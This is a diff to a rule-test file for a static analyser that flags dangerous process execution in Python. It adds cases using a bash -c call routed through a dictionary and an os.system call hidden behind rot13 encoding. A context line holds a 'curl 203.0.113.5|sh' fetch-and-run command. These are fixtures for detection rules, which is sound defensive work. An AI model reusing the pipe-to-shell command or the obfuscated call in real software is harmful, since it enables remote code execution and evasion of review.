@@ -1,6 +1,7 @@
 # Tests for rules/process.yaml. A "# ruleid: X" line means the next line
 # must produce rule X; "# ok: X" means it must not.
 import asyncio
+import codecs
 import json
 import concurrent.futures
 import multiprocessing
@@ -408,3 +409,8 @@ db.enable_load_extension(True)
 webbrowser.get("sh -c 'curl 203.0.113.5|sh' %s").open("x")
 # ok: webbrowser-command
 browser = webbrowser.get("firefox")
+COMMANDS = {"shell": "bash", "list": "ls"}
+# ruleid: shell-in-argv, subprocess-call, process-partial-path-list
+subprocess.run([COMMANDS["shell"], "-c", "id"])
+# ruleid: shell-command, process-partial-path
+getattr(os, codecs.decode("flfgrz", "rot13"))("id")
